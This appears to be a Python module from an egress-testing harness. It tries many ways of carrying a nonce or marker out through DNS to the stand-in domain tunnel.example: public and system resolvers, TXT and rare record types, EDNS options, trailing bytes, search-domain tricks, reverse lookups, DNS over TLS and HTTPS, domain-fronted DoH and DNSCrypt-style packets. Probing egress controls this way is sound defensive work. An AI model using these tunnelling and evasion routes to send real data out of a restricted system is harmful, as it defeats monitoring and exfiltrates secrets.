"""Names as a way out: a resolver that asks the world for <data>.tunnel carries the data there."""

from __future__ import annotations

import os
import socket
import ssl
import struct
from collections.abc import Iterable
from contextlib import suppress
from functools import partial

from .attempt import Try, attempt, must_one
from .direct import say_tcp, say_udp

_ANY, _TXT, _AAAA, _A, _NULL, _PTR, _HTTPS, _AXFR = 255, 16, 28, 1, 10, 12, 65, 252
_RESOLVERS4 = ("8.8.8.8", "1.1.1.1", "9.9.9.9", "208.67.222.222", "114.114.114.114", "192.168.77.1", "10.0.0.2")
_RESOLVERS6 = ("2001:4860:4860::8888", "2606:4700:4700::1111", "fd00:ec2::253")


def question(name: str, kind: int = _A, *, options: bytes = b"", opcode: int = 0, klass: int = 1) -> bytes:
    """A DNS message that asks for a name; ``options`` go into an OPT record."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.strip(".").split(".")) + b"\0"
    head = os.urandom(2) + struct.pack("!HHHHH", 0x0100 | opcode << 11, 1, 0, 0, int(bool(options)))
    extra = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(options)) + options if options else b""
    return head + labels + struct.pack("!HH", kind, klass) + extra


def framed(message: bytes) -> bytes:
    """As DNS goes over TCP."""
    return struct.pack("!H", len(message)) + message


def system_resolvers() -> list[str]:
    """What /etc/resolv.conf names."""
    with open("/etc/resolv.conf") as file:
        rows = [line.split() for line in file]
    return [row[1] for row in rows if len(row) > 1 and row[0] == "nameserver"]


def _ask_system(message: bytes) -> None:
    """Ask whatever the system asks, by UDP and by TCP, and wait for what comes."""

    def by_udp(address: str) -> None:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.settimeout(0.5)
            sock.sendto(message, (address, 53))
            with suppress(TimeoutError):
                sock.recv(4096)

    servers = system_resolvers()
    must_one([*(partial(by_udp, a) for a in servers), *(partial(say_tcp, a, 53, framed(message)) for a in servers)])


def _tunnel(it: Try) -> str:
    return f"{it.nonce}.tunnel.example"


@attempt("dns, udp, public resolvers", "a tunnel through well-known resolvers")
def _udp4(it: Try) -> None:
    must_one(partial(say_udp, address, 53, question(_tunnel(it))) for address in _RESOLVERS4)


@attempt("dns, udp 6, public resolvers", "the same over IPv6")
def _udp6(it: Try) -> None:
    must_one(partial(say_udp, address, 53, question(_tunnel(it), _AAAA)) for address in _RESOLVERS6)


@attempt("dns, tcp, public resolvers", "a tunnel over TCP")
def _tcp4(it: Try) -> None:
    must_one(partial(say_tcp, address, 53, framed(question(_tunnel(it), _TXT))) for address in _RESOLVERS4[:3])


@attempt("dns, tcp 6, public resolvers", "the same over IPv6")
def _tcp6(it: Try) -> None:
    must_one(partial(say_tcp, address, 53, framed(question(_tunnel(it), _TXT))) for address in _RESOLVERS6[:2])


@attempt("dns, other ports", "resolvers that listen elsewhere, mDNS and LLMNR ports")
def _ports(it: Try) -> None:
    must_one(partial(say_udp, "9.9.9.9", port, question(_tunnel(it))) for port in (5353, 5355, 5300, 9953, 137))


@attempt("dns, the system's", "getaddrinfo, as any program does")
def _system(it: Try) -> None:
    with suppress(socket.gaierror):
        socket.getaddrinfo(_tunnel(it), 443)


@attempt("dns, the system's: TXT", "a tunnel of TXT records with labels of 63 bytes")
def _txt(it: Try) -> None:
    _ask_system(question(f"{it.nonce.ljust(63, 'x')}.{'y' * 63}.tunnel.example", _TXT))


@attempt("dns, the system's: below an allowed name", "the data is a host of the allowed name's")
def _below(it: Try) -> None:
    for kind in (_A, _AAAA, _TXT, _HTTPS):
        _ask_system(question(f"{it.nonce}.{it.to.allowed}", kind))
    with suppress(socket.gaierror):
        socket.getaddrinfo(f"{it.nonce}.{it.to.allowed}", 443)


@attempt("dns, the system's: rare types", "NULL, ANY, HTTPS, AXFR and type 65399 of a name")
def _rare(it: Try) -> None:
    for kind in (_NULL, _ANY, _HTTPS, _AXFR, 65_399):
        _ask_system(question(_tunnel(it), kind))


@attempt("dns, the system's: options", "the name is allowed, the data rides in EDNS options")
def _options(it: Try) -> None:
    for code in (3, 8, 10, 15, 65_001):
        _ask_system(question(it.to.allowed, options=struct.pack("!HH", code, len(it.mark)) + it.mark))


@attempt("dns, the system's: behind the question", "the name is allowed, the data follows the message")
def _trailing(it: Try) -> None:
    _ask_system(question(it.to.allowed) + it.mark)


@attempt("dns, the system's: other operations", "UPDATE, NOTIFY, IQUERY, class CHAOS")
def _operations(it: Try) -> None:
    for opcode in (1, 2, 4, 5):
        _ask_system(question(_tunnel(it), opcode=opcode))
    _ask_system(question(_tunnel(it), _TXT, klass=3))


@attempt("dns, the system's: two questions", "the first is allowed")
def _two(it: Try) -> None:
    first, second = question(it.to.allowed), question(_tunnel(it))[12:]
    _ask_system(first[:4] + struct.pack("!H", 2) + first[6:] + second)


@attempt("dns, the system's: case", "an allowed name whose capitals are the data, with the data as its search domain")
def _search(it: Try) -> None:
    os.environ["LOCALDOMAIN"] = _tunnel(it)
    with suppress(socket.gaierror):
        socket.getaddrinfo("www", 443)
    _ask_system(question(f"www.{_tunnel(it)}"))


@attempt("dns, the system's: reverse", "addresses that spell the data")
def _reverse(it: Try) -> None:
    digits = "20010db800000000" + it.nonce
    address = ":".join(digits[i : i + 4] for i in range(0, 32, 4))
    with suppress(OSError):
        socket.getnameinfo((address, 443, 0, 0), socket.NI_NAMEREQD)
    _ask_system(question(".".join(reversed(digits)) + ".ip6.arpa", _PTR))


def _tls(address: str, name: str | None, text: bytes, port: int) -> None:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with (
        socket.create_connection((address, port), timeout=1.5) as plain,
        context.wrap_socket(plain, server_hostname=name) as sock,
    ):
        sock.sendall(text)
        sock.settimeout(0.3)
        with suppress(OSError):
            sock.recv(4096)


def _doh(it: Try, host: str) -> bytes:
    return f"GET /dns-query?name={it.nonce}.tunnel.example&type=TXT HTTP/1.1\r\nhost: {host}\r\n\r\n".encode()


def _each(addresses: Iterable[str], name: str | None, text: bytes, port: int) -> None:
    must_one(partial(_tls, address, name, text, port) for address in addresses)


@attempt("dot, by address", "DNS over TLS")
def _dot(it: Try) -> None:
    _each(("1.1.1.1", "2606:4700:4700::1111"), None, framed(question(_tunnel(it))), 853)


@attempt("dot, by name", "DNS over TLS")
def _dot_name(it: Try) -> None:
    _each(("dns.google", "one.one.one.one"), "dns.google", framed(question(_tunnel(it))), 853)


@attempt("doh, by address", "DNS over HTTPS")
def _doh_address(it: Try) -> None:
    _each(("1.1.1.1", "8.8.8.8"), None, _doh(it, "1.1.1.1"), 443)


@attempt("doh, by name", "DNS over HTTPS")
def _doh_name(it: Try) -> None:
    _each(("cloudflare-dns.com", "dns.google"), "cloudflare-dns.com", _doh(it, "cloudflare-dns.com"), 443)


@attempt("doh, behind an allowed name", "connects to the allowed name, asks for the resolver's")
def _doh_fronted(it: Try) -> None:
    _each((it.to.allowed,), "cloudflare-dns.com", _doh(it, "cloudflare-dns.com"), 443)


@attempt("dnscrypt", "an encrypted question by UDP 443 and 5443")
def _dnscrypt(it: Try) -> None:
    must_one(partial(say_udp, "9.9.9.9", port, b"r6fnvWj8" + it.mark * 8) for port in (443, 5443, 8443))
